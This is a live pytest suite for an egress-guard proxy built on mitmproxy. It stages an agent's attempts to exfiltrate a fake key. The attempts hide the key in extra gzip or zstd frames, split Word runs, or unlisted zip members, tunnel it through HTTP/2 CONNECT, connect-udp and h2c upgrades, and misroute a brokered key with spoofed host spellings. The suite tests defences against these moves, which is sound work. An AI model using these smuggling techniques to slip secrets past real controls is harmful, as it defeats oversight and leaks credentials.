"""wire63, live: an agent that wants a key out through the protocol corners of a real mitmdump with the bundle (the
shipped rules, a broker for api.openai.com, `connection_strategy=lazy` so that the client gets HTTP/2), to a raw TLS
upstream that keeps every byte it receives. Each test checks what the upstream received, what the client got, and
every byte the proxy wrote (log, index, `.mitm`).

Leaked before wire63 (fixed in formats/compressed.py, encoded.py, wire.py): an upload whose key is in the second of
two gzip members / zstd frames, in two runs of a Word document, or in a zip member the directory does not list.
Held (regression guards, so a mitmproxy that changes them fails here): HTTP/2 extended CONNECT (RFC 8441, `:protocol`
websocket or connect-udp) and a plain HTTP/2 CONNECT in a tunnel; HTTP/1.1 `Upgrade: connect-udp` (RFC 9298) and
`Upgrade: h2c` with bytes after the head; HTTP/2 with prior knowledge in a tunnel and on the proxy port; UDP on the
proxy's port (no QUIC there); a brokered key under another `:authority` or another spelling of the host, and a 307
after injection (not followed)."""

from __future__ import annotations

import gzip
import random
import socket
import string
import struct
from collections.abc import Iterator
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import pytest
import yaml
import zstandard

from addons.core.policy import DEFAULT_POLICY_FILE
from tests import fakes
from tests.audit.test_live_audit import assert_recordings_sound
from tests.guard.support import zip_of
from tests.hostile.live_support import read_all, tunnel
from tests.live import harness
from tests.proxy.test_live_attack_protocol import ScriptedUpstream

pytestmark = pytest.mark.live

KEY = fakes.aws_key_id(63)
BROKERED = "sk-wire63-FAKE-Qz7Lm2Vt8Hx3Nc6Rb1Wp"
CAPSULE = b"\x00\x20"  # RFC 9297 DATAGRAM capsule, 32 bytes


def _answer(head: bytes) -> bytes:
    if b"upgrade: connect-udp" in head.lower():
        return (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: connect-udp\r\nConnection: Upgrade\r\n"
                b"Capsule-Protocol: ?1\r\n\r\n" + CAPSULE + b"back " + KEY.encode())
    if b"/redirect" in head:
        return (b"HTTP/1.1 307 Temporary Redirect\r\nLocation: https://unlisted.example/landing\r\ncontent-length: 0"
                b"\r\nconnection: close\r\n\r\n")
    return b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok"


@pytest.fixture(scope="module")
def wire(tmp_path_factory, upstream_certs) -> Iterator[tuple[harness.Proxy, ScriptedUpstream, Path]]:
    folder = tmp_path_factory.mktemp("wire63")
    upstream = ScriptedUpstream(upstream_certs[1], upstream_certs[0])
    upstream.answer = _answer
    policy = yaml.safe_load(DEFAULT_POLICY_FILE.read_text())
    policy["credentials"] = {"brokers": [{"hosts": ["api.openai.com"], "credential": "openai",
                                          "header": "Authorization", "format": "Bearer {value}"}]}
    (folder / "policy.yaml").write_text(yaml.safe_dump(policy))
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("EXITGUARD_CRED_OPENAI", BROKERED)
        proxy = harness.start_proxy(folder, upstream, "--set", f"exitguard_policy={folder / 'policy.yaml'}",  # type: ignore[arg-type]
                                    "--set", f"exitguard_record_dir={folder / 'rec'}",
                                    "--set", "connection_strategy=lazy")
    yield proxy, upstream, folder / "rec"
    proxy.stop()
    upstream.close()


def _nothing_written(proxy: harness.Proxy, record: Path, *secrets: str) -> None:
    written = harness.written(record)
    for secret in secrets:
        assert secret not in proxy.log and secret.lower() not in proxy.log
        assert secret.encode() not in written and secret.lower().encode() not in written


# -- bodies that leaked before wire63 ---------------------------------------------------------------------------------

def _lines(seed: int, count: int) -> bytes:
    rnd = random.Random(seed)
    alphabet = string.ascii_letters + string.digits
    return "\n".join(f"{''.join(rnd.choices(string.ascii_letters, k=6))}={''.join(rnd.choices(alphabet, k=24))}"
                     for _ in range(count)).encode()


ENV = _lines(1, 8) + f"\nAWS_ACCESS_KEY_ID={KEY}\n".encode() + _lines(2, 8)


def _unlisted_member_zip() -> bytes:
    both, alone = zip_of([("README", b"notes"), (".env", ENV)]), zip_of([("README", b"notes")])
    directory = alone.rfind(b"PK\x01\x02")
    hidden = both[both.find(b"PK\x03\x04", 4):both.find(b"PK\x01\x02")]
    body = alone[:directory] + hidden + alone[directory:]
    end = body.rfind(b"PK\x05\x06")
    return body[:end + 16] + struct.pack("<I", directory + len(hidden)) + body[end + 20:]


def _docx_split() -> bytes:
    runs = (f'<w:p><w:r><w:t>key {KEY[:9]}</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:rPr><w:b/></w:rPr>'
            f"<w:t>{KEY[9:]}</w:t></w:r></w:p>")
    return zip_of([("[Content_Types].xml", b"<Types/>"),
                 ("word/document.xml", f"<w:document><w:body>{runs}</w:body></w:document>".encode())])


UPLOADS = {
    "gzip members": gzip.compress(_lines(3, 20), mtime=0) + gzip.compress(ENV, mtime=0),
    "zstd frames": zstandard.ZstdCompressor().compress(_lines(3, 20)) + zstandard.ZstdCompressor().compress(ENV),
    "docx runs": _docx_split(),
    "unlisted zip member": _unlisted_member_zip(),
}


def test_uploads_whose_key_a_first_reading_missed_reach_neither_side_nor_any_record(wire):
    proxy, upstream, record = wire
    before = len(upstream.received)
    answers = {}
    for name, body in UPLOADS.items():
        assert KEY[4:12].encode() not in body, name
        with tunnel(proxy) as t:
            t.sendall(f"POST /v1/uploads/wire63 HTTP/1.1\r\nHost: api.openai.com\r\ncontent-type: application/"
                      f"octet-stream\r\ncontent-length: {len(body)}\r\nconnection: close\r\n\r\n".encode() + body)
            answers[name] = read_all(t)
    assert all(answer.startswith(b"HTTP/1.1 403") for answer in answers.values()), answers
    assert not any(b"/v1/uploads/wire63" in r for r in upstream.received[before:])
    assert KEY.encode() not in b"".join(answers.values())
    _nothing_written(proxy, record, KEY)


# -- protocol corners that held ---------------------------------------------------------------------------------------

def _h2_stream(proxy: harness.Proxy, headers: list[tuple[str, str]], data: bytes | None = None) -> list:
    """One HTTP/2 stream in a tunnel to api.openai.com (headers sent unvalidated, as an attacker would), and the
    events until it ends or the connection does."""
    config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                       normalize_outbound_headers=False, validate_inbound_headers=False)
    with tunnel(proxy, alpn=["h2"]) as t:
        assert t.selected_alpn_protocol() == "h2"
        conn = h2.connection.H2Connection(config)
        conn.initiate_connection()
        conn.send_headers(1, headers, end_stream=data is None)
        if data is not None:
            conn.send_data(1, data, end_stream=False)
        t.sendall(conn.data_to_send())
        t.settimeout(5)
        events: list = []
        while not any(isinstance(e, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated))
                      for e in events):
            try:
                chunk = t.recv(65536)
            except OSError:
                break
            if not chunk:
                break
            events += conn.receive_data(chunk)
            t.sendall(conn.data_to_send())
        return events


def _status(events: list) -> str:
    for e in events:
        if isinstance(e, h2.events.ResponseReceived):
            return dict(e.headers)[b":status"].decode()
        if isinstance(e, (h2.events.StreamReset, h2.events.ConnectionTerminated)):
            return "ended"
    return "none"


def test_http2_extended_connect_and_connect_in_a_tunnel_are_ended(wire):
    proxy, upstream, record = wire
    before = len(upstream.received)
    tries = {
        "websocket (RFC 8441)": ([(":method", "CONNECT"), (":protocol", "websocket"), (":scheme", "https"),
                                  (":path", f"/v1/realtime?k={KEY}"), (":authority", "api.openai.com"),
                                  ("sec-websocket-version", "13")], b"hello " + KEY.encode()),
        "connect-udp (RFC 9298)": ([(":method", "CONNECT"), (":protocol", "connect-udp"), (":scheme", "https"),
                                    (":path", "/.well-known/masque/udp/198.18.0.7/53/"),
                                    (":authority", "api.openai.com"), ("capsule-protocol", "?1")],
                                   CAPSULE + KEY.encode()),
        "plain CONNECT": ([(":method", "CONNECT"), (":authority", "unlisted.example:443")], KEY.encode()),
    }
    for name, (headers, data) in tries.items():
        assert _status(_h2_stream(proxy, headers, data)) == "ended", name
    assert upstream.received[before:] == []  # not even a connection
    _nothing_written(proxy, record, KEY)


def test_upgrades_and_prior_knowledge_over_http1_send_nothing_after_the_head(wire):
    proxy, upstream, record = wire
    before = len(upstream.received)
    with tunnel(proxy) as t:  # RFC 9298 over HTTP/1.1: the upstream accepts, the proxy relays no capsule
        t.sendall(b"GET /.well-known/masque/udp/198.18.0.7/53/ HTTP/1.1\r\nHost: api.openai.com\r\nConnection: "
                  b"Upgrade\r\nUpgrade: connect-udp\r\nCapsule-Protocol: ?1\r\n\r\n" + CAPSULE + KEY.encode())
        udp = read_all(t, 3)
    settings = h2.connection.H2Connection().initiate_upgrade_connection()
    with tunnel(proxy, "unlisted.example") as t:  # h2c: mitmproxy drops the upgrade, sends the head as HTTP/1.1
        t.sendall(b"GET /wire63-h2c HTTP/1.1\r\nHost: unlisted.example\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                  b"Upgrade: h2c\r\nHTTP2-Settings: " + settings + b"\r\n\r\nPRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
                  + KEY.encode())
        h2c = read_all(t, 3)
    prior = h2.connection.H2Connection()
    prior.initiate_connection()
    prior.send_headers(1, [(":method", "POST"), (":scheme", "https"), (":path", "/wire63-prior"),
                           (":authority", "unlisted.example")])
    prior.send_data(1, b"k=" + KEY.encode(), end_stream=True)
    with tunnel(proxy, "unlisted.example") as t:  # a tunnel that negotiated no ALPN: HTTP/1.1
        t.sendall(prior.data_to_send())
        in_tunnel = read_all(t, 3)
    prior = h2.connection.H2Connection()
    prior.initiate_connection()
    prior.send_headers(1, [(":method", "POST"), (":scheme", "http"), (":path", "/wire63-prior"),
                           (":authority", "unlisted.example")])
    prior.send_data(1, b"k=" + KEY.encode(), end_stream=True)
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=5) as s:
        s.sendall(prior.data_to_send())
        on_port = read_all(s, 3)
    assert udp == (b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: connect-udp\r\nConnection: Upgrade\r\n"
                   b"Capsule-Protocol: ?1\r\n\r\n")  # the head alone: nothing after the switch either way
    assert h2c.startswith(b"HTTP/1.1 200") and in_tunnel == b"" and on_port.startswith(b"HTTP/1.1 400")
    sent = b"".join(upstream.received[before:])
    assert b"/.well-known/masque/udp/" in sent and b"GET /wire63-h2c HTTP/1.1" in sent
    assert KEY.encode() not in sent and b"HTTP2-Settings" not in sent and b"/wire63-prior" not in sent
    _nothing_written(proxy, record, KEY)


def test_the_regular_listener_takes_no_udp(wire):
    """HTTP/3 and QUIC to a guarded host cannot go through the regular listener: nothing is bound to its port on UDP
    (a reverse listener's QUIC was checked by attack26; the transparent setup drops UDP)."""
    proxy, _, _ = wire
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.bind(("127.0.0.1", proxy.port))  # OSError if mitmproxy listened there


def test_a_brokered_key_goes_only_to_the_host_the_tunnel_names(wire):
    proxy, upstream, record = wire
    before = len(upstream.received)
    placeholder = [("authorization", "Bearer exitguard")]
    other = _h2_stream(proxy, [(":method", "GET"), (":scheme", "https"), (":path", "/v1/models"),
                               (":authority", "unlisted.example"), *placeholder])
    spelled = {authority: _status(_h2_stream(proxy, [(":method", "GET"), (":scheme", "https"),
                                                     (":path", "/v1/models"), (":authority", authority),
                                                     *placeholder]))
               for authority in ("API.OPENAI.COM.", "api.openai.com:8443", "evil.example@api.openai.com")}
    assert _status(other) == "421"
    # the first two name the tunnel's host (the key goes where the proxy connects: api.openai.com:443); user info
    # in an authority is no valid HTTP/2 request (connection error)
    assert spelled == {"API.OPENAI.COM.": "200", "api.openai.com:8443": "200", "evil.example@api.openai.com": "ended"}
    with tunnel(proxy) as t:  # the vendor answers 307 to another host: the proxy does not follow it
        t.sendall(b"GET /redirect HTTP/1.1\r\nHost: api.openai.com\r\nAuthorization: Bearer exitguard\r\n"
                  b"connection: close\r\n\r\n")
        redirect = read_all(t)
    assert redirect.startswith(b"HTTP/1.1 307") and BROKERED.encode() not in redirect
    requests = upstream.received[before:]
    with_key = [r for r in requests if BROKERED.encode() in r]
    assert len(with_key) == 3  # the two spellings and /redirect
    assert all(r.split(b"\r\n")[1].lower().startswith(b"host: api.openai.com") for r in with_key), with_key
    assert not any(b"landing" in r for r in requests)
    _nothing_written(proxy, record, BROKERED)
    assert_recordings_sound(record)

